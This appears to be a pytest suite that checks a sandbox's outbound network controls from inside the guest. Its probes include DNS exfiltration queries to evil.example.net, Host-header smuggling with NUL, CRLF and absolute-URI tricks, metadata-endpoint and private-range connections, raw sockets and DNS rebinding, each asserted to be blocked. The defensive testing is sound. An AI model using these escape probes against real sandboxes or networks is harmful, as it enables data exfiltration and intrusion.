"""Where the code of a sandbox can go, tried from inside with real sockets: rows N of the field cases, contract 7.6. What the guest
sees, what reaches the internet behind the host, and what the decision log says must agree."""
import os
import time

import pytest
from conftest import eventually
from e2b import CommandExitException, Sandbox
from internet import internet

ALL = "0.0.0.0/0"
LISTED = {"allow_out": ["ok.example.com", "*.sub.example.com", "cname.example.com", "rebind.example.com", "private.example.com",
                        "meta.example.com", "mixed.example.com", "8.8.8.8"], "deny_out": [ALL]}


@pytest.fixture(scope="module")
def net():
    with internet() as there:
        yield there


@pytest.fixture(scope="module")
def host(net):
    server = net.serve("closed = ['203.0.113.12', '*.closed.example.com']\n")
    before = {name: os.environ.get(name) for name in server.variables()}
    os.environ.update(server.variables())
    yield server
    server.close()
    os.environ.update({name: value for name, value in before.items() if value is not None})


@pytest.fixture(scope="module")
def box(host):
    sandbox = Sandbox.create("base", timeout=1800)
    yield sandbox
    sandbox.kill()


@pytest.fixture
def listed(box):
    box.update_network(LISTED)
    return box


def run(sandbox: Sandbox, command: str, timeout: float = 60):
    try:
        return sandbox.commands.run(command, timeout=timeout)
    except CommandExitException as ended:
        return ended


def curl(sandbox: Sandbox, *arguments: str):
    return run(sandbox, "curl -sk -m 15 " + " ".join(arguments))


def python(sandbox: Sandbox, program: str, user: str = "root"):
    sandbox.files.write("/tmp/probe.py", program, user=user)
    return sandbox.commands.run("timeout 40 python3 /tmp/probe.py", user=user, timeout=60)


def decided(server, sandbox: Sandbox, since: str = "", **wanted) -> list[dict]:
    """The lines with these values, once there are some."""
    def found():
        lines = server.decisions(sandbox.sandbox_id)
        return [d for d in lines if all(d.get(k) == v for k, v in wanted.items()) and d.get("time", "") >= since]

    return eventually(found, 10)


def now() -> str:
    return time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime())


def test_the_internet_answers_the_host(net):
    """The control: without it, what fails in a sandbox would prove nothing."""
    for url, status in (("https://1.1.1.1", "301"), ("https://8.8.8.8", "302")):
        assert net.from_host("curl", "-sk", "-m", "5", "-o", "/dev/null", "-w", "%{http_code}", url).stdout == status
    evil = net.from_host("curl", "-sk", "-m", "5", "--resolve", "evil.example.net:443:203.0.113.12", "https://evil.example.net/")
    assert "evil.example.net" in evil.stdout


def test_N1_denied_names_are_not_asked_for(net, host, listed):
    start = now()
    for server in ("", "@1.1.1.1", "@10.0.0.53", "+tcp"):
        program = f"import socket\ntry: print(socket.gethostbyname('secret-{len(server)}.evil.example.net'))\nexcept OSError as e: print('none')"
        assert python(listed, program, "user").stdout == "none\n"
    # Whatever server is asked directly, over UDP and TCP, it is ours that answers.
    answer = python(listed, """
import socket, struct
def query(name, tcp, server):
    q = struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 0) + b''.join(bytes([len(p)]) + p.encode() for p in name.split('.')) + b'\\0\\0\\1\\0\\1'
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM); s.settimeout(5); s.connect((server, 53))
    s.send((struct.pack('>H', len(q)) if tcp else b'') + q)
    a = s.recv(600)[2 if tcp else 0:]
    return a[3] & 15, struct.unpack('>H', a[6:8])[0]
for server in ('1.1.1.1', '203.0.113.99', '192.168.0.1'):
    for tcp in (0, 1):
        print(query('exfil.evil.example.net', tcp, server), query('ok.example.com', tcp, server))
""").stdout
    assert answer == "(3, 0) (0, 1)\n" * 6
    assert not [q for q in net.log(kind="dns") if "evil" in q["name"]], "no question about it has left"
    lines = decided(host, listed, start, protocol="dns", name="exfil.evil.example.net")
    assert {d["rule"] for d in lines} == {"deny 0.0.0.0/0"} and {d["verdict"] for d in lines} == {"deny"}


def test_N3_an_address_that_is_not_of_the_name(net, host, listed):
    ok = curl(listed, "https://ok.example.com/N3")
    assert '"path": "/N3"' in ok.stdout
    for there in ("203.0.113.11", "1.1.1.1"):
        assert curl(listed, f"--resolve ok.example.com:443:{there}", "https://ok.example.com/N3-spoofed").exit_code == 35
        assert "not-of-name" in curl(listed, f"--resolve ok.example.com:80:{there}", "http://ok.example.com/N3-spoofed").stdout
        assert len(decided(host, listed, address=there, rule="not-of-name", name="ok.example.com")) == 2
    assert not net.log(target="/N3-spoofed")


def test_N4_no_name_is_a_reason(net, host, listed):
    start = now()
    raw = """
import socket, sys
for address, port, data in (('203.0.113.10', 443, b'SSH-2.0-x\\r\\n'), ('203.0.113.10', 80, b'hello there\\r\\n\\r\\n'), ('203.0.113.10', 80, b'GET / HTTP/1.1\\r\\n\\r\\n'),
                            ('203.0.113.10', 80, b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n')):
    s = socket.create_connection((address, port), 5); s.settimeout(20); s.send(data)
    try: got = s.recv(100)
    except ConnectionResetError: got = b'reset'
    print(got[:12])
"""
    seen = python(listed, raw).stdout.splitlines()
    assert seen[0] == "b'reset'"
    assert all(line == "b'reset'" or line.startswith("b'HTTP/1.1 40") for line in seen[1:]), seen
    assert curl(listed, "https://203.0.113.10/").exit_code == 35  # TLS without a name
    assert len(decided(host, listed, start, rule="no-name", address="203.0.113.10")) >= 5
    assert not net.log(target="/", address="203.0.113.10")


def test_N6_udp_and_quic_under_name_rules(net, host, listed):
    probe = """
import socket
for address, port in (('203.0.113.12', 443), ('8.8.8.8', 443), ('1.1.1.1', 123)):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.connect((address, port))
    try: s.send(b'x'); print(s.recv(5))
    except OSError as e: print(type(e).__name__)
"""
    assert "b'x'" not in python(listed, probe).stdout
    assert not net.log(kind="udp")
    assert decided(host, listed, protocol="udp", address="8.8.8.8", rule="udp-closed")
    # TCP that is denied by its address is refused at once.
    assert "ConnectionRefusedError" in python(listed, """
import socket
try: socket.create_connection(('203.0.113.10', 22), 5)
except OSError as e: print(type(e).__name__)
""").stdout


def test_N8_wildcards(listed):
    assert "deep.sub.example.com" in curl(listed, "https://deep.sub.example.com/").stdout
    assert "DEEP.Sub.Example.COM" in curl(listed, "https://DEEP.Sub.Example.COM/").stdout
    assert curl(listed, "https://sub.example.com/").exit_code == 6


def test_N10_no_second_family(net, box):
    box.update_network({})
    seen = python(box, """
import socket
def attempt(family, address, port):
    s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(3)
    try: s.connect((address, port)); return 'open'
    except OSError as e: return 'closed'
print(attempt(socket.AF_INET6, '2606:4700:4700::1111', 443), attempt(socket.AF_INET6, '::ffff:10.0.0.1', 80), attempt(socket.AF_INET6, '::ffff:169.254.169.254', 80))
print(socket.getaddrinfo('ok.example.com', 443, type=socket.SOCK_STREAM)[0][4][0])
""").stdout.splitlines()
    assert seen == ["closed closed closed", "203.0.113.10"]


def test_N12_what_nobody_opens(net, host, box):
    box.update_network({"allow_out": [ALL]})
    start = now()
    own = net.api
    targets = ["169.254.169.254", "10.0.0.1", "172.16.0.1", "192.168.1.1", "100.64.0.1", "127.0.0.2", "198.51.100.1", own, "203.0.113.12", "10.11.0.1"]
    for port in (80, 443, 22):
        seen = python(box, f"""
import socket
for address in {targets}:
    s = socket.socket(); s.settimeout(2)
    try: s.connect((address, {port})); print(address, 'open')
    except OSError: pass
""").stdout
        assert seen == "", seen
    assert decided(host, box, start, address="169.254.169.254", port=80)[0]["rule"] == "private"
    assert decided(host, box, start, address="203.0.113.12", port=443)[0]["rule"] == "closed 203.0.113.12"
    for name in ("private.example.com", "meta.example.com"):
        assert curl(box, f"http://{name}/").exit_code == 6, "names of private addresses have none"
        assert decided(host, box, start, name=name, verdict="deny")[0]["rule"] == "private"
    assert "203.0.113.10" in run(box, "getent ahostsv4 mixed.example.com").stdout
    assert curl(box, "https://x.closed.example.com/").exit_code == 6
    box.update_network({})


def test_N13_nothing_leaves_a_closed_sandbox(net, host, box):
    box.update_network({"allow_internet_access": False} | {"deny_out": [ALL]})
    marks = len(net.log())
    start = now()
    python(box, """
import socket
def quiet(f):
    try: f()
    except OSError: pass
for port in (22, 80, 443, 853, 8443): quiet(lambda: socket.create_connection(('1.1.1.1', port), 1))
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for port in (53, 123, 443): quiet(lambda: u.sendto(b'x', ('1.1.1.1', port)))
r = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
quiet(lambda: r.sendto(b'\\x08\\0\\xf7\\xff\\0\\0\\0\\0', ('1.1.1.1', 0)))
g = socket.socket(socket.AF_INET, socket.SOCK_RAW, 47)
quiet(lambda: g.sendto(b'\\0' * 8, ('1.1.1.1', 0)))
for cid in (0, 1, 2):
    quiet(lambda: socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).connect((cid, 49983)))
""")
    run(box, "getent hosts ok.example.com")
    assert decided(host, box, start, protocol="icmp", verdict="deny") and decided(host, box, start, port=8443, verdict="deny")
    assert len(net.log()) == marks, net.log()[marks:]
    box.update_network({})


def test_N15_N16_one_spelling_decides(net, host, listed):
    """Paths are not judged, hosts are: whatever surrounds the name."""
    assert "/a/../b%2e%2e" in curl(listed, "--path-as-is http://ok.example.com/a/../b%2e%2e").stdout
    start = now()
    seen = python(listed, """
import socket
hosts = [b'evil.example.net\\0.ok.example.com', b'ok.example.com.', b'ok.example.com:443', b'ok.example.com@evil.example.net',
         b'\\xd0\\xbek.example.com', b'evil.example.net, ok.example.com', b'', b'[::ffff:203.0.113.10]', b'203.0.113.10', b'0xcb00710a', b'3405803786',
         b'ok.example.com\\r\\nHost: evil.example.net']
def attempt(head):
    s = socket.create_connection(('203.0.113.10', 80), 10); s.settimeout(20)
    s.send(head + b'\\r\\n\\r\\n')
    try: print(s.recv(12)[9:12].decode() or 'reset')
    except OSError: print('reset')
for host in hosts: attempt(b'GET /N16 HTTP/1.1\\r\\nHost: ' + host)
attempt(b'GET http://evil.example.net/N16 HTTP/1.1\\r\\nHost: ok.example.com')
attempt(b'CONNECT evil.example.net:443 HTTP/1.1\\r\\nHost: ok.example.com')
""").stdout.split()
    assert set(seen) <= {"400", "403", "reset"} and len(seen) == 14, seen
    assert not net.log(target="/N16") and not net.log(kind="http", host="evil.example.net")
    for argument in ("ok.example.com.", "b\u00fccher.example", "evil\u3002com", "1.2.3.256", "*.*.com"):
        with pytest.raises(Exception, match="invalid allowed"):
            listed.update_network({"allow_out": [argument], "deny_out": [ALL]})
    assert decided(host, listed, start, rule="invalid-name")


def test_h2c_and_pipelining_do_not_escape(net, listed):
    """N21 as far as requests go: each is judged by its own Host and framed anew."""
    seen = python(listed, """
import socket
s = socket.create_connection(('203.0.113.10', 80), 5); s.settimeout(10)
one = b'GET /first HTTP/1.1\\r\\nHost: ok.example.com\\r\\nUpgrade: h2c\\r\\nHTTP2-Settings: AAMAAABk\\r\\nConnection: Upgrade, HTTP2-Settings\\r\\n\\r\\n'
body = bytes(range(256))
two = b'POST /echo HTTP/1.1\\r\\nHost: ok.example.com\\r\\nContent-Length: 256\\r\\n\\r\\n' + body
three = b'GET /third HTTP/1.1\\r\\nHost: evil.example.net\\r\\n\\r\\n'
s.send(one + two + three)
got = b''
while chunk := s.recv(65536): got += chunk
print(got.count(b'HTTP/1.1 200'), body in got, b'HTTP/1.1 403' in got)
""").stdout
    assert seen == "2 True True\n"
    assert net.log(target="/first") and "Upgrade" not in net.log(target="/first")[-1]["headers"]
    assert not net.log(target="/third")


def test_N18_an_update_replaces_and_cuts(net, host, box):
    box.update_network({})
    box.files.write("/tmp/slow.py", """
import socket, ssl, sys, time
def hold(name, address, port, tls):
    s = socket.create_connection((address, port), 5)
    if tls:
        c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
        s = c.wrap_socket(s, server_hostname=name)
        s.send(f'GET /slow HTTP/1.1\\r\\nHost: {name}\\r\\n\\r\\n'.encode())
    else: s.send(b'x')
    return s
held = {'kept': hold('ok.example.com', '203.0.113.10', 443, 1), 'cut': hold('other.example.com', '203.0.113.11', 443, 1), 'plain': hold('', '203.0.113.11', 22, 0)}
print('ready', flush=True)
end = time.time() + 60
while held and time.time() < end:
    for name, s in list(held.items()):
        s.settimeout(0.3)
        if name == 'plain':
            try: s.send(b'x')
            except OSError: print('gone', name, flush=True); del held[name]; continue
        try:
            if not s.recv(4096): raise OSError
        except TimeoutError: pass
        except OSError: print('gone', name, flush=True); del held[name]
""")
    out = []
    handle = box.commands.run("python3 -u /tmp/slow.py", background=True, timeout=0)
    import threading
    reader = threading.Thread(target=lambda: [out.append((time.monotonic(), o or "")) for o, _, _ in handle], daemon=True)
    reader.start()
    assert eventually(lambda: any("ready" in text for _, text in out), 30)
    changed = time.monotonic()
    box.update_network({"allow_out": ["203.0.113.10"], "deny_out": [ALL]})
    assert eventually(lambda: sum(text.count("gone") for _, text in out) >= 2, 10)
    gone = "".join(text for _, text in out)
    assert "gone cut" in gone and "gone plain" in gone and "gone kept" not in gone
    assert max(at for at, text in out if "gone" in text) - changed < 5
    # Name rules cut what was not carried by name, and the name that is allowed can be reached again.
    box.update_network({"allow_out": ["other.example.com"], "deny_out": [ALL]})
    assert eventually(lambda: "gone kept" in "".join(text for _, text in out), 10)
    assert "other.example.com" in curl(box, "https://other.example.com/").stdout
    handle.kill()
    box.update_network({"deny_out": ["203.0.113.10"]})
    assert curl(box, "https://ok.example.com/").exit_code in (7, 35) and "other" in curl(box, "https://other.example.com/").stdout
    box.update_network({"allow_out": ["203.0.113.10"], "deny_out": [ALL]})
    box.update_network({})
    assert curl(box, "https://1.1.1.1 -o /dev/null -w '%{http_code}'").stdout == "301"


def test_rebinding(net, host, listed):
    assert "203.0.113.10" in run(listed, "getent ahostsv4 rebind.example.com").stdout
    assert eventually(lambda: run(listed, "getent ahostsv4 rebind.example.com").exit_code == 2, 20), "private from the second answer on"
    assert decided(host, listed, name="rebind.example.com", rule="private")


def test_rules_last_over_pause_restart_and_fork(net):
    server = net.serve()
    options = {"api_key": server.key, "api_url": server.url, "sandbox_url": server.url}
    sandbox = Sandbox.create("base", network={"allow_out": ["ok.example.com"], "deny_out": [ALL]}, timeout=900, **options)
    try:
        def holds(one: Sandbox) -> bool:
            return ("ok.example.com" in curl(one, "https://ok.example.com/").stdout and curl(one, "https://other.example.com/").exit_code == 6
                    and curl(one, "https://1.1.1.1/").exit_code == 35)

        assert holds(sandbox)
        sandbox.pause()
        sandbox = Sandbox.connect(sandbox.sandbox_id, **options)
        assert holds(sandbox)
        server.kill_hard()
        server.start()
        options |= {"api_url": server.url, "sandbox_url": server.url}
        sandbox = Sandbox.connect(sandbox.sandbox_id, **options)
        assert holds(sandbox)
        fork = sandbox.fork()[0]
        assert holds(Sandbox.connect(fork.sandbox_id, **options))
        sandbox.kill()
        lines = server.decisions(sandbox.sandbox_id)
        assert any(d.get("verdict") == "deny" and d.get("name") == "other.example.com" for d in lines), "kept after it is gone"
    finally:
        server.close()


def test_bytes_are_counted(net, host, box):
    box.update_network({})
    start = now()
    assert curl(box, "https://ok.example.com/bytes -o /dev/null -w '%{size_download}'").stdout == str(1 << 20)
    box.update_network(LISTED)
    assert curl(box, "https://ok.example.com/bytes -o /dev/null -w '%{size_download}'").stdout == str(1 << 20)
    ends = decided(host, box, start, verdict="end", name="ok.example.com")
    assert ends[-1]["received"] > 1 << 20 and 300 < ends[-1]["sent"] < 100_000


def test_half_open_and_many_connections_leave_nothing(host, box):
    box.update_network(LISTED)
    descriptors = lambda: len(os.listdir(f"/proc/{host.process.pid}/fd"))
    before = descriptors()
    many = 10_000 if os.environ.get("GLOVEBOX_LONG_TESTS") else 1_000
    seen = python(box, f"""
import socket
held = [socket.create_connection(('203.0.113.10', 443), 10) for _ in range(300)]
print(len(held)); del held
for _ in range({many}): socket.create_connection(('203.0.113.10', 443), 10).close()
print('done')
""").stdout
    assert seen == "300\ndone\n"
    assert eventually(lambda: descriptors() <= before + 10, 60), (before, descriptors())
    assert "ok.example.com" in curl(box, "https://ok.example.com/").stdout


def test_N30_and_closed_servers(net):
    """The operator's word is above the client's, and nothing of a client changes the proxy."""
    with_lists = net.serve("mode = 'closed'\nopen = ['ok.example.com', '8.8.8.8']\n")
    try:
        options = {"api_key": with_lists.key, "api_url": with_lists.url, "sandbox_url": with_lists.url}
        sandbox = Sandbox.create("base", network={"allow_out": [ALL]}, envs={"HTTPS_PROXY_SECRET": "x", "SSL_CERT_FILE": "/none"},
                                 timeout=600, **options)
        assert "ok.example.com" in curl(sandbox, "--cacert /dev/null https://ok.example.com/").stdout
        assert curl(sandbox, "https://8.8.8.8 -o /dev/null -w '%{http_code}'").stdout == "302"
        assert curl(sandbox, "https://1.1.1.1/").exit_code == 35
        asked = len(net.log(kind="dns"))
        assert curl(sandbox, "https://other.example.com/").exit_code == 6
        assert len(net.log(kind="dns")) == asked
        assert decided(with_lists, sandbox, name="other.example.com", rule="closed")
        sandbox.kill()
    finally:
        with_lists.close()
    shut = net.serve("", "--egress", "closed")
    try:
        options = {"api_key": shut.key, "api_url": shut.url, "sandbox_url": shut.url}
        sandbox = Sandbox.create("base", network={"allow_out": [ALL, "ok.example.com"], "deny_out": [ALL]}, timeout=600, **options)
        reached = len(net.log())
        assert curl(sandbox, "https://ok.example.com/").exit_code == 6
        for url in ("https://8.8.8.8/", "http://203.0.113.10:8443/"):
            assert curl(sandbox, url).exit_code in (7, 35), url
        assert '"code":403,"message":"closed:' in curl(sandbox, "http://1.1.1.1/").stdout
        assert len(net.log()) == reached
        sandbox.kill()
    finally:
        shut.close()
